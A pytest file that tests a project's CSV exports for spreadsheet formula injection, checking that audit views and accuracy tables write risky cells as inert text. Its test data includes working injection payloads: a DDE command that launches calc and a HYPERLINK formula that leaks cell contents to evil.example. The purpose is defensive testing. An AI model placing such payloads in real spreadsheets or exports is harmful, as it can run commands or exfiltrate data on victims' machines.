"""Every CSV the project writes is data to a spreadsheet (issue 24, item 2; ``reasonmed.csv_cells``).

A SQLite database holds question ids, question texts, model names, verdict reasons, rejection reasons and
errors that a spreadsheet would run (``=cmd|' /C calc'!A0``, ``=HYPERLINK(...)``, ``+``, ``-``, ``@``, a
leading tab or carriage return); every audit view written by ``reasonmed audit --view V --format csv``,
and the accuracy table ``reasonmed eval --out`` writes, must carry each of them behind a ``'``, while
numbers stay numbers.
"""

from __future__ import annotations

import ast
import csv
import decimal
import io
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy.orm import Session
from typer.testing import CliRunner

from reasonmed.cli import app
from reasonmed.csv_cells import FORMULA_START, neutralise
from reasonmed.db.audit_repo import AUDIT_VIEWS
from reasonmed.db.engine import make_engine
from reasonmed.db.models import (
    AcceptedPath,
    PipelineRun,
    Question,
    QuestionFailure,
    QuestionOutcome,
    ReasoningPath,
    Verdict,
)

T0 = datetime(2026, 11, 20, 12, 0, tzinfo=UTC)
CALC = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
PLUS, MINUS, AT, TAB, CR = "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"
HOSTILE = (CALC, LINK, PLUS, MINUS, AT, TAB, CR)
REPO = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (CALC, "'" + CALC),
        (LINK, "'" + LINK),
        (PLUS, "'" + PLUS),
        (MINUS, "'" + MINUS),
        (AT, "'" + AT),
        (TAB, "'" + TAB),
        (CR, "'" + CR),
        ("  =1+1", "'  =1+1"),  # after white space
        ("\uff1d1+1", "'\uff1d1+1"),  # full-width '='
        ("-3", "'-3"),  # text that looks like a number is text
        ("plain text", "plain text"),
        ("a=b", "a=b"),
        ("", ""),
        (-3, -3),  # numbers stay numbers
        (-0.25, -0.25),
        (decimal.Decimal("-1.5"), decimal.Decimal("-1.5")),
        (None, None),
        (True, True),
        (datetime(2026, 1, 2, tzinfo=UTC), "2026-01-02 00:00:00+00:00"),
    ],
)
def test_the_rule_for_one_cell(value: Any, written: Any) -> None:
    assert neutralise(value) == written


@pytest.fixture
def formula_db(sqlite_url: str) -> str:
    """Question 1 accepted (path 2 rejected with a reason), 2 rejected, 3 set aside; every text that an
    audit view shows holds a formula."""
    engine = make_engine(sqlite_url)
    with Session(engine) as s, s.begin():
        s.add(PipelineRun(id=1, kind="build", status="completed", parameters={}, stats={}, started_at=T0))
        s.flush()
        for qid in (1, 2, 3):
            s.add(
                Question(
                    id=qid,
                    content_hash=f"h{qid}",
                    source="medqa",
                    source_id=HOSTILE[qid - 1],
                    split="train",
                    is_benchmark_test=False,
                    question=f"{LINK} which one?" if qid != 2 else LINK,
                    context=None,
                    options=[["A", CALC], ["B", "other"]],
                    answer="A",
                    meta={},
                    created_at=T0,
                )
            )
        s.flush()
        for pid, model in ((1, AT), (2, PLUS)):
            s.add(
                ReasoningPath(
                    id=pid,
                    question_id=1,
                    path_key=f"k{pid}",
                    origin="generated",
                    role="generator",
                    run_id=1,
                    endpoint="e",
                    model=model,
                    temperature=0.7,
                    prompt_sha256="x",
                    raw_text=CALC,
                    clean_text=CALC,
                    extracted_answer="A" if pid == 1 else "B",
                    created_at=T0,
                )
            )
        s.flush()
        for pid, outcome in ((1, "correct"), (2, "error")):
            s.add(
                Verdict(
                    id=pid,
                    path_id=pid,
                    question_id=1,
                    verifier_model=MINUS,
                    prompt_sha256="x",
                    outcome=outcome,
                    reason=CR if pid == 2 else TAB,
                    created_at=T0,
                )
            )
        s.flush()
        s.add_all(
            [
                AcceptedPath(question_id=1, path_id=1, verdict_id=1, rank=0, run_id=1, created_at=T0),
                QuestionOutcome(
                    question_id=1,
                    run_id=1,
                    tier="easy",
                    n_paths=2,
                    n_correct=1,
                    status="accepted",
                    n_accepted=1,
                    updated_at=T0,
                ),
                QuestionOutcome(
                    question_id=2,
                    run_id=1,
                    tier="difficult",
                    n_paths=0,
                    n_correct=0,
                    status="rejected",
                    rejection_reason=CALC,
                    n_accepted=0,
                    updated_at=T0,
                ),
                QuestionFailure(
                    question_id=3,
                    stage="verify",
                    failures=3,
                    permanent=True,
                    last_error_kind="client_error",
                    last_error=LINK,
                    last_run_id=1,
                    first_failed_at=T0,
                    last_failed_at=T0,
                    set_aside_at=T0,
                ),
            ]
        )
    engine.dispose()
    return sqlite_url


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _assert_no_live_formula(rows: list[dict[str, str]]) -> None:
    """No cell starts (after white space) as a formula does, unless it is a number (``-3``)."""
    for row in rows:
        for column, cell in row.items():
            assert cell.lstrip(" \t\r\n")[:1] not in FORMULA_START or _is_number(cell), (column, cell)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("view", list(AUDIT_VIEWS))
def test_every_audit_view_as_csv_carries_formulas_as_text(formula_db: str, view: str) -> None:
    r = CliRunner().invoke(app, ["audit", "--view", view, "--format", "csv", "--database-url", formula_db])
    assert r.exit_code == 0, r.output
    rows = _cells(r.stdout)
    _assert_no_live_formula(rows)
    cells = {cell for row in rows for cell in row.values()}
    expected = {
        "audit_rejected_questions": ["'" + LINK, "'" + CALC],  # source id and question, reason
        "audit_rejected_paths": ["'" + CALC, "'" + PLUS, "'" + LINK],  # source id, model, question
        "audit_set_aside": ["'" + PLUS, "'" + LINK],  # source id, last error
        "audit_verifier_accuracy": ["'" + AT, "'" + PLUS],  # models
    }.get(view, [])
    for cell in expected:
        assert cell in cells or any(c.startswith(cell) for c in cells), (view, cell, rows)
    if view == "audit_rejected_questions":
        assert rows[0]["question_id"] == "2" and rows[0]["n_paths"] == "0"  # numbers as numbers


def test_the_accuracy_table_csv_carries_formulas_as_text(tmp_path: Path) -> None:
    from reasonmed.evaluation.report import AccuracyRow, write_csv

    row = AccuracyRow(
        model=CALC,
        endpoint=LINK,
        benchmark="medqa",
        subset="all",
        selected=3,
        n=3,
        correct=1,
        unanswered=0,
        accuracy=1 / 3,
        ci_low=-0.0,
        ci_high=0.8,
        prompt_sha256=AT,
    )
    out = write_csv(tmp_path / "acc.csv", [row])
    [read] = _cells(out.read_text(encoding="utf-8"))
    _assert_no_live_formula([read])
    assert (read["model"], read["endpoint"], read["prompt_sha256"]) == ("'" + CALC, "'" + LINK, "'" + AT)
    assert read["ci_low"] == "-0.0" and float(read["accuracy"]) == pytest.approx(
        1 / 3
    )  # numbers stay numbers


def test_no_other_module_writes_csv() -> None:
    """One place for the rule: no module of the package writes CSV but ``reasonmed/csv_cells.py``."""
    writers = {"writer", "DictWriter", "to_csv"}
    found = []
    for path in sorted((REPO / "reasonmed").rglob("*.py")) + sorted((REPO / "flows").rglob("*.py")):
        if path.name == "csv_cells.py" or "__pycache__" in path.parts:
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in writers:
                owner = node.value.id if isinstance(node.value, ast.Name) else ""
                if node.attr == "to_csv" or owner == "csv":
                    found.append(f"{path.relative_to(REPO)}:{node.lineno}")
    assert not found, found
